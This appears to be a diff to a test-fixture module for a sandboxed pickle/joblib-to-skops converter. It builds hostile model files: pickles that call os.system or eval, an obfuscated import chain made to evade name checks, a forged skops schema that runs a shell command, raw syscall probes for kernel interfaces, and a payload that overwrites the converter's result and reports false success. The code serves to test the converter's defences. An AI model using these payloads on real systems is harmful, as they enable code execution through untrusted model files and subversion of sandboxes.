@@ -11,7 +11,6 @@ import importlib
 import io
 import operator
 import pickle
-import zipfile
 
 import joblib
 import numpy as np
@@ -76,23 +75,14 @@ def object_array(command: str) -> bytes:
     """A joblib file whose object-dtype array carries a nested pickle that spawns a process."""
     import subprocess
 
-    inner = np.array([_Reduce(subprocess.Popen, ["sh", "-c", command])], dtype=object)
+    inner = np.array([_Reduce(subprocess.check_call, ["sh", "-c", command])], dtype=object)
     return _joblib(_estimator_carrying(inner))
 
 
 def compressed(method: str, command: str) -> bytes:
     import subprocess
 
-    return _joblib(_estimator_carrying(_Reduce(subprocess.Popen, ["sh", "-c", command])), compress=(method, 3))
-
-
-def torch_style_zip(command: str) -> bytes:
-    """A PyTorch-style zip container with the payload in data.pkl."""
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("archive/data.pkl", os_system(command))
-        archive.writestr("archive/version", "3\n")
-    return buffer.getvalue()
+    return _joblib(_estimator_carrying(_Reduce(subprocess.check_call, ["sh", "-c", command])), compress=(method, 3))
 
 
 def billion_laughs(levels: int = 40) -> bytes:
@@ -133,7 +123,10 @@ def patch_skops_writer() -> bytes:
 
 
 def syscall(number: int, name: str) -> bytes:
-    """Calls a raw syscall through ctypes and reports its result in the error."""
+    """Calls a raw syscall through ctypes with zero arguments and reports its result in the error.
+
+    Zero arguments fail with EFAULT/EINVAL even unconfined: use `syscall_probe` to prove a denial.
+    """
     return run_python(
         "import ctypes, os\n"
         f"r = ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0, 0)\n"
@@ -141,13 +134,104 @@ def syscall(number: int, name: str) -> bytes:
     )
 
 
+# x86_64 syscalls called with arguments that succeed for an unconfined process (as root on the
+# host; bpf needs root, the others also succeed for an unprivileged user with no capabilities).
+SYSCALL_PROBES: dict[str, str] = {
+    # io_uring_setup(1 entry, zeroed io_uring_params)
+    "io_uring_setup": "libc.syscall(425, ctypes.c_uint(1), ctypes.create_string_buffer(120))",
+    # userfaultfd(UFFD_USER_MODE_ONLY | O_CLOEXEC)
+    "userfaultfd": "libc.syscall(323, ctypes.c_int(1 | 0o2000000))",
+    # bpf(BPF_MAP_CREATE, {BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry}, 128)
+    "bpf": "libc.syscall(321, ctypes.c_int(0), ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1), 128), ctypes.c_uint(128))",
+    # perf_event_open(software CPU clock, user space only, this process, any CPU)
+    "perf_event_open": "libc.syscall(298, ctypes.create_string_buffer(struct.pack('IIQQQQQ', 1, 64, 0, 0, 0, 0, 0x60), 64), ctypes.c_int(0), ctypes.c_int(-1), ctypes.c_int(-1), ctypes.c_ulong(0))",
+    # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_PROCESS_KEYRING, create)
+    "keyctl": "libc.syscall(250, ctypes.c_int(0), ctypes.c_int(-2), ctypes.c_int(1))",
+    # unshare(CLONE_NEWUSER)
+    "unshare": "libc.syscall(272, ctypes.c_int(0x10000000))",
+}
+SYSCALL_FIRED = "FIRED:"
+
+
+def syscall_probe(name: str) -> bytes:
+    """A pickle calling `name` with valid arguments: raises 'FIRED: name returned N' on success,
+    else OSError 'name returned -1 (strerror)'."""
+    return run_python(
+        "import ctypes, os, struct\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        f"r = {SYSCALL_PROBES[name]}\n"
+        f"if r >= 0: raise RuntimeError('{SYSCALL_FIRED} {name} returned ' + str(r))\n"
+        "e = ctypes.get_errno()\n"
+        f"raise OSError(e, '{name} returned ' + str(r) + ' (' + os.strerror(e) + ')')"
+    )
+
+
+def system_call(command: str) -> _Reduce:
+    """REDUCE os.system(command), unpickled as its return value."""
+    import os
+
+    return _Reduce(os.system, command)
+
+
+def evaluate(expression: str) -> _Reduce:
+    """REDUCE builtins.eval(expression)."""
+    return _Reduce(builtins.eval, expression)
+
+
+def import_chain_call(command: str) -> _Reduce:
+    """importlib.import_module('os') + getattr 'system', called: no `os` global in the pickle."""
+    system = _Reduce(getattr, _Reduce(importlib.import_module, "o" + "s"), "sys" + "tem")
+    return _Reduce(system, command)
+
+
+def reported(call: _Reduce, what: str) -> bytes:
+    """A pickle that makes `call` and then raises KeyError('<what> returned <value>'): the
+    call's own return value shows in the refusal (no exec or eval around it)."""
+    message = _Reduce(operator.mod, f"{what} returned %r", call)
+    return pickle.dumps(_Reduce(operator.getitem, {}, message), protocol=4)
+
+
+def hostile_skops(command: str) -> bytes:
+    """A skops archive whose top object is `posix.system(command)` (a ConstructorFromReduceNode):
+    harmless to a loader that checks types first, runs `command` for one that trusts them all."""
+    import json
+    import os
+    import zipfile
+
+    import skops.io
+
+    base = io.BytesIO(skops.io.dumps((command,)))
+    with zipfile.ZipFile(base) as archive:
+        schema = json.loads(archive.read("schema.json"))
+        entries = {name: archive.read(name) for name in archive.namelist() if name != "schema.json"}
+    meta = {key: schema.pop(key) for key in ("protocol", "_skops_version") if key in schema}
+    hostile = {"__class__": os.system.__name__, "__module__": os.system.__module__,
+               "__loader__": "ConstructorFromReduceNode", "content": schema, **meta}
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("schema.json", json.dumps(hostile))
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
 def forged_result(skops_bytes: bytes) -> bytes:
-    """Writes its own bytes as the conversion result and reports success to the loader."""
+    """Writes its own bytes as the conversion result and reports success to the loader.
+
+    Finds the result memfd by its name in /proc/self/fd (or a PassedFd object) and the status
+    pipe among the live multiprocessing Connections.
+    """
     return run_python(
         "import gc, json, os\n"
         "from multiprocessing.connection import Connection\n"
         f"data = {skops_bytes!r}\n"
-        "for fd in [o.fd for o in gc.get_objects() if type(o).__name__ == 'PassedFd']:\n"
+        "fds = [o.fd for o in gc.get_objects() if type(o).__name__ == 'PassedFd']\n"
+        "for name in os.listdir('/proc/self/fd'):\n"
+        "    try:\n"
+        "        if 'skops-result' in os.readlink('/proc/self/fd/' + name): fds.append(int(name))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "for fd in fds:\n"
         "    try:\n"
         "        os.pwrite(fd, data, 0)\n"  # the result memfd takes it; the sealed artefact does not
         "    except OSError:\n"
